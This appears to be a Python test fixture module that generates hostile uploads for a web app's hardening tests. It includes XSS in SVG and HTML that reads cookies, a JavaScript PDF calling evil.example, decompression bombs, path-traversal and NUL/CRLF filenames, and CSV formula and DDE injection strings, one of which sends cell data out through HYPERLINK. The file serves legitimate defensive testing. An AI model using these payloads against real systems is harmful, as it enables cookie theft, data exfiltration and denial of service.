"""The hostile files of the upload sweep (tests/hardening/test_upload_attacks.py), made in memory.

Each payload makes its bytes from a seed, so that no two cells send the same file (an order keeps a
file sent twice once, and that must not pass for a refusal). `refuse`: no endpoint may keep it;
`accept`: a control every endpoint of its kind must keep (else the sweep did not reach the check).
"""

from __future__ import annotations

import csv
import io
import json
import secrets
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from typing import Any
from urllib.parse import quote

from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, NameObject, TextStringObject

from servicecenter.attachments import MAX_DOCUMENT_BYTES, MAX_PHOTO_BYTES
from tests.domain.test_attachment_documents import inflating, pdf

SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b"<script>alert(document.cookie)</script></svg>")
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
BOMB_SIDE = 30_000
OVER_REQUEST_LIMIT = 64 * 1024 * 1024 + 1  # the app's MAX_CONTENT_LENGTH, plus one (the test checks it is)


def picture(seed: int, fmt: str = "PNG", size: tuple[int, int] = (24, 16)) -> bytes:
    """A small real picture whose colour depends on the seed (so its bytes differ cell by cell)."""
    out = io.BytesIO()
    Image.new("RGB", size, (seed % 251, (seed // 251) % 251, 77)).save(out, fmt)
    return out.getvalue()


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


@cache
def png_bomb() -> bytes:
    """A real 30,000 × 30,000 PNG (1-bit, all black): 900 megapixels that decode to 112 MB, in ~110 KB."""
    row = b"\0" * (1 + BOMB_SIDE // 8)
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row * 1000) for _ in range(BOMB_SIDE // 1000)) + packer.flush()
    header = struct.pack(">IIBBBBB", BOMB_SIDE, BOMB_SIDE, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def jpeg_bomb(seed: int) -> bytes:
    """A small JPEG whose frame header claims 30,000 × 30,000 pixels."""
    data = bytearray(picture(seed, "JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", BOMB_SIDE, BOMB_SIDE)
    return bytes(data)


def truncated_jpeg(seed: int) -> bytes:
    data = picture(seed, "JPEG", (300, 200))
    return data[: len(data) * 2 // 3]


def corrupt_png(seed: int) -> bytes:
    """A PNG whose image data fails its checksum."""
    data = bytearray(picture(seed))
    at = data.index(b"IDAT") + 6
    data[at] ^= 0xFF
    return bytes(data)


def gif_html(_seed: int) -> bytes:
    """A GIF header that a browser sniffing the content would take for HTML further on."""
    return b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04" + HTML


def jpeg_html(seed: int) -> bytes:
    """A real JPEG with an HTML page after its end (decoders stop at the end marker)."""
    return picture(seed, "JPEG") + HTML


def pdf_with_javascript(seed: int) -> bytes:
    """A real PDF that runs JavaScript when opened (/OpenAction and the document's /JavaScript names)."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf(text=f"Акт {seed}")))
    def script(js: str) -> IndirectObject:
        return writer._add_object(DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                                                    NameObject("/JS"): TextStringObject(js)}))

    writer._root_object[NameObject("/OpenAction")] = script("app.launchURL('https://evil.example/');")
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("opened"), script("app.alert('opened');")])})})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@cache
def _pdf_bomb() -> bytes:
    return inflating(pages=2, each_mb=20)  # 40 MB of page content from ~80 KB


def oversized(limit: int, head: bytes, ext: bytes = b"") -> bytes:
    """`head` padded to one byte over `limit` (ending in `ext`, e.g. a PDF's %%EOF)."""
    return head + b"\0" * (limit + 1 - len(head) - len(ext)) + ext


@dataclass(frozen=True)
class Payload:
    key: str
    make: Callable[[int], bytes]
    filename: str | None = None  # sent raw as filename="..." (bytes as UTF-8)
    encoded_name: str | None = None  # sent as filename*=UTF-8''... (RFC 5987), for what a raw header cannot carry
    part_type: str = "application/octet-stream"  # the file part's Content-Type (a client's claim; never trusted)
    request_type: str | None = None  # the request's own Content-Type, when it is not multipart
    refuse: bool = False
    accept: str = ""  # "photo" / "document": a control every endpoint taking these must keep
    says: str = ""  # what a refusal's message must mention (a pattern matching the Russian and the English)
    copies: int = 1  # files in the one request (each its own bytes)
    after_a_good_one: bool = False  # a good photo first: one bad file refuses the whole batch


def _png(seed: int) -> bytes:
    return picture(seed)


def _const(data: bytes) -> Callable[[int], bytes]:
    return lambda _seed: data


def _named(key: str, name: str) -> Payload:
    return Payload(key, _png, filename=name)


def _encoded(key: str, name: str) -> Payload:
    return Payload(key, _png, encoded_name=quote(name, safe=""))


PIXELS, MEGABYTES, EMPTY, LARGE = r"пиксел|pixel", r"МБ|MB", r"пуст|empty", r"больш|large"
PAYLOADS: list[Payload] = [
    Payload("control-png", _png, "photo.png", accept="photo"),
    Payload("control-pdf", lambda s: pdf(text=f"Акт № {s}"), "act.pdf", part_type="application/pdf",
            accept="document"),
    # content that is not what its name says
    Payload("svg-as-png", _const(SVG), "logo.png", part_type="image/png", refuse=True),
    Payload("svg-as-jpg", _const(SVG), "logo.jpg", part_type="image/jpeg", refuse=True),
    Payload("svg", _const(SVG), "logo.svg", part_type="image/svg+xml", refuse=True),
    Payload("html-as-jpg", _const(HTML), "photo.jpg", part_type="image/jpeg", refuse=True),
    Payload("html-as-pdf", _const(HTML), "act.pdf", part_type="application/pdf", refuse=True),
    Payload("gif-html-polyglot", gif_html, "photo.png", part_type="image/png", refuse=True),
    Payload("jpeg-then-html", jpeg_html, "photo.jpg", part_type="image/jpeg"),
    Payload("pdf-not-a-pdf", _const(b"%PDF-1.7\n" + HTML + b"\n%%EOF\n"), "act.pdf", refuse=True),
    Payload("program-as-pdf", _const(b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 56 + b"PE\0\0"), "act.pdf",
            refuse=True),
    Payload("pdf-with-javascript", pdf_with_javascript, "act.pdf", part_type="application/pdf"),
    Payload("pdf-bomb", lambda _s: _pdf_bomb(), "act.pdf", refuse=True),
    # images that are too much or too little; batches
    Payload("png-pixel-bomb", lambda _s: png_bomb(), "bomb.png", part_type="image/png", refuse=True,
            says=PIXELS),
    Payload("jpeg-pixel-bomb", jpeg_bomb, "bomb.jpg", part_type="image/jpeg", refuse=True, says=PIXELS),
    Payload("truncated-jpeg", truncated_jpeg, "cut.jpg", refuse=True, says=r"cut\.jpg"),
    Payload("corrupt-png", corrupt_png, "broken.png", refuse=True, says=r"broken\.png"),
    Payload("empty", _const(b""), "empty.png", refuse=True, says=EMPTY),
    Payload("photo-1-byte-over", lambda s: oversized(MAX_PHOTO_BYTES, picture(s)), "big.png", refuse=True,
            says=MEGABYTES),
    Payload("pdf-1-byte-over", lambda s: oversized(MAX_DOCUMENT_BYTES, b"%PDF-1.4\n", b"\n%%EOF\n"), "big.pdf",
            refuse=True, says=MEGABYTES),
    Payload("svg-after-a-good-photo", _const(SVG), "logo.png", refuse=True, after_a_good_one=True),
    Payload("empty-after-a-good-photo", _const(b""), "empty.png", refuse=True, after_a_good_one=True, says=EMPTY),
    Payload("21-photos-at-once", _png, "photo.png", refuse=True, copies=21, says=r"20"),
    # names
    _named("traversal-unix", "../../etc/passwd.png"),
    _encoded("traversal-windows", "..\\..\\x.png"),  # encoded: a quoted raw name loses its backslashes
    _named("traversal-windows-raw", "..\\..\\x.png"),
    _named("absolute-unix", "/etc/passwd.png"),
    _encoded("absolute-windows", "C:\\Windows\\System32\\x.png"),
    _named("nul-raw", "x\x00.png"),
    _encoded("nul-encoded", "evil.png\x00.php"),
    _encoded("crlf", "a\r\nX-Injected: 1.png"),
    _named("300-chars", "a" * 296 + ".png"),
    _named("300-cyrillic", "ж" * 296 + ".png"),
    _named("100k-chars", "b" * 100_000 + ".png"),
    Payload("not-utf8", _png, "x\udcff\udcfe.png", says=r"UTF-8"),  # the bytes FF FE (sent surrogate-escaped)
    _named("emoji", "📷 фото.png"),
    Payload("rtl-hidden-exe", _png, "scan\u202egnp.exe", refuse=True),  # shows as "scanexe.png"
    _named("rtl-png", "\u202ecod.png"),
    _named("double-extension", "x.php.png"),
    _named("cyrillic", "Фото платы №1.png"),
    _named("dot-only", ".png"),
    _encoded("markup-name", '"><svg onload=alert(1)>.png'),
    # what the client claims about the type; the request itself
    Payload("png-claimed-html", _png, "photo.png", part_type="text/html"),
    Payload("svg-claimed-png", _const(SVG), "photo.png", part_type="image/png", refuse=True),
    Payload("no-file-chosen", _const(b""), "", refuse=True),
    Payload("request-not-multipart", _png, "photo.png", request_type="application/octet-stream", refuse=True,
            says=r"UTF-8|multipart"),
    Payload("request-over-64-mb", lambda _s: b"\0" * OVER_REQUEST_LIMIT, "huge.png", refuse=True, says=LARGE),
]


def multipart(fields: dict[str, Any], files: list[tuple[str, str | None, str, bytes]],
              encoded: dict[int, str] | None = None) -> tuple[bytes, str]:
    """A multipart/form-data body made by hand (raw file names, NUL and all): (body, Content-Type)."""
    boundary = "----sweep" + secrets.token_hex(12)
    out = io.BytesIO()
    for name, value in fields.items():
        for one in value if isinstance(value, list) else [value]:
            out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{one}\r\n'.encode())
    for n, (name, filename, part_type, data) in enumerate(files):
        disposition = f'form-data; name="{name}"'
        if filename is not None:
            disposition += f'; filename="{filename}"'
        if encoded and n in encoded:  # the n-th file's name as RFC 5987 (what a raw quoted name cannot carry)
            disposition += f"; filename*=UTF-8''{encoded[n]}"
        out.write(f"--{boundary}\r\nContent-Disposition: {disposition}\r\nContent-Type: {part_type}\r\n\r\n"
                  .encode("utf-8", "surrogateescape"))
        out.write(data)
        out.write(b"\r\n")
    out.write(f"--{boundary}--\r\n".encode())
    return out.getvalue(), f"multipart/form-data; boundary={boundary}"


# --- the units import's files (a CSV or JSON Lines body) ----------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Открыть")', "+7+cmd|' /C calc'!A0", "-2+3+SUM(A1:A9)",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]
CSV_TYPE, JSONL_TYPE = "text/csv", "application/x-ndjson"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
COLUMNS = ["manufacturer", "model", "serial", "owner_name", "owner_phone"]


def import_rows(brand: str, model: str, seed: int) -> list[dict[str, str]]:
    """One row per formula in the owner's name (the free text an import stores), and formulas where the
    catalogue or the serial's pattern decide (manufacturer, model, serial)."""
    rows = [{"manufacturer": brand, "model": model, "serial": f"F{seed}-{n}", "owner_name": formula,
             "owner_phone": f"+7916{seed % 1000:03d}{n:04d}"} for n, formula in enumerate(FORMULAS)]
    return [*rows, {"manufacturer": "=1+1", "model": model, "serial": f"F{seed}-M"},
            {"manufacturer": brand, "model": "@SUM(1)", "serial": f"F{seed}-N"},
            {"manufacturer": brand, "model": model, "serial": "=CMD()"}]


def as_csv(rows: list[dict[str, str]], sep: str = ",") -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, COLUMNS, delimiter=sep)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def as_xlsx(rows: list[dict[str, str]]) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(COLUMNS)
    for row in rows:
        sheet.append([row.get(k, "") for k in COLUMNS])  # openpyxl stores "=..." as a formula
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _jsonl(rows: list[dict[str, str]]) -> bytes:
    return "\n".join(json.dumps(r, ensure_ascii=False) for r in rows).encode()


def import_payloads() -> dict[str, tuple[str, Callable[[list[dict[str, str]]], Any], bool]]:
    """name → (Content-Type, the body made of the rows, may rows be kept). An empty type: the maker
    answers (body, Content-Type)."""
    traversal = [{"manufacturer": "../../etc", "model": "..\\..\\x", "serial": "../../etc/passwd"}]
    return {
        "csv-formulas": (CSV_TYPE, as_csv, True),
        "csv-formulas-semicolons-bom": (CSV_TYPE, lambda rows: "\ufeff".encode() + as_csv(rows, ";"), True),
        "jsonl-formulas": (JSONL_TYPE, _jsonl, True),
        "xlsx-formulas": (XLSX_TYPE, as_xlsx, False),
        "xlsx-sent-as-csv": (CSV_TYPE, as_xlsx, False),
        "csv-as-multipart": ("", lambda rows: multipart({}, [("file", "units.csv", CSV_TYPE, as_csv(rows))]), False),
        "csv-claimed-json": ("application/json", as_csv, False),
        "empty": (CSV_TYPE, lambda _rows: b"", False),
        "not-utf8": (CSV_TYPE, lambda rows: as_csv(rows).replace(b"-", b"\xff\xfe"), False),
        "html-as-csv": (CSV_TYPE, lambda _rows: HTML, False),
        "svg-as-csv": (CSV_TYPE, lambda _rows: SVG, False),
        "nul-in-csv": (CSV_TYPE, lambda rows: as_csv(rows).replace(b"F", b"F\x00", 1), True),
        "field-over-csv-limit": (CSV_TYPE, lambda rows: as_csv(rows) + b"B,M,SN1," + b"A" * 200_000 + b",+7916\n",
                                 False),
        "traversal-values": (CSV_TYPE, lambda _rows: as_csv(traversal), True),
        "over-request-limit": (CSV_TYPE, lambda rows: as_csv(rows) + b"\0" * OVER_REQUEST_LIMIT, False),
    }
